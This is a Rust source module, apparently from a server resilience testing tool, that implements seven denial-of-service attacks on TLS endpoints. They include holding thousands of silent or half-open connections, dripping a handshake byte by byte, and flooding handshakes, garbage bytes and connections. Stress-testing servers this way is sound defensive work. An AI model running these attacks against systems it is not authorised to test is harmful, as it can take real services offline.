//! Attacks before and within TLS.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
    time::{Duration, Instant},
};

use super::{Attack, Course, Words};
use crate::{http2::connection::Target, records, sockets};

/// Connections that each attacker holds at a time.
const HELD: usize = 2_500;
/// How long an attacker waits for a word.
const PATIENCE: Duration = Duration::from_secs(2);

/// Returns all of them.
#[must_use]
pub fn attacks() -> Vec<Attack> {
    let of = |(name, attackers, run)| Attack { name, has_streams: false, attackers, run };
    let all: [Words; 7] = [
        ("10,000 connections that say nothing", 4, |t, c| holds(t, c, &[])),
        ("10,000 half-open handshakes", 4, |t, c| holds(t, c, &records::hello(&t.host))),
        ("10,000 beginnings of a hello", 4, |t, c| holds(t, c, &records::hello(&t.host)[..40])),
        ("hellos byte by byte", 200, drips),
        ("handshakes as fast as they go", 16, |t, c| repeats(t, c, &records::hello(&t.host))),
        ("garbage as fast as it goes", 16, |t, c| {
            repeats(t, c, &[b"GET / HTTP/1.1\r\n\r\n".to_vec(), vec![0xff; 2_000]].concat())
        }),
        ("connections that close at once", 16, |t, c| repeats(t, c, &[])),
    ];
    all.into_iter().map(of).collect()
}

fn connected(target: &Target, course: &Course) -> Option<TcpStream> {
    let socket = sockets::connect(target.from, target.address, PATIENCE).ok();
    if socket.is_none() {
        course.ended("refused");
    }
    course.count(1);
    socket
}

/// Holds as many connections as it can, each of which has sent `bytes`; those that the server ends
/// are replaced.
fn holds(target: &Target, course: &Course, bytes: &[u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    while course.goes_on() {
        if held.len() < HELD {
            let Some(mut socket) = connected(target, course) else { continue };
            let _ = socket.write_all(bytes);
            let _ = socket.set_nonblocking(true);
            held.push(socket);
            continue;
        }
        let before = held.len();
        held.retain(|mut socket| {
            // The server's part of a handshake is read and forgotten.
            matches!(socket.read(&mut [0; 8 << 10]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
                || matches!(socket.peek(&mut [0]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
        });
        (held.len()..before).for_each(|_| course.ended("close"));
        std::thread::sleep(Duration::from_millis(20));
    }
    held.iter().for_each(|_| course.ended("never"));
}

/// Sends a hello, a byte every 20 ms.
fn drips(target: &Target, course: &Course) {
    let hello = records::hello(&target.host);
    while course.goes_on() {
        let Some(mut socket) = connected(target, course) else { continue };
        let mut bytes = hello.iter();
        while course.goes_on() && bytes.next().is_some_and(|byte| socket.write_all(&[*byte]).is_ok()) {
            std::thread::sleep(Duration::from_millis(20));
        }
        course.ended(if course.goes_on() { "close" } else { "never" });
    }
}

/// Connects, sends, waits for a word and goes, again and again.
fn repeats(target: &Target, course: &Course, bytes: &[u8]) {
    while course.goes_on() {
        let Some(mut socket) = connected(target, course) else { continue };
        let until = course.end().saturating_duration_since(Instant::now()).clamp(Duration::from_millis(1), PATIENCE);
        let _ = socket.set_read_timeout(Some(until));
        let _ = socket.write_all(bytes);
        let came = if bytes.is_empty() { Ok(0) } else { socket.read(&mut [0; 1024]) };
        course.ended(if came.is_ok_and(|length| length > 0) { "word" } else { "close" });
    }
}
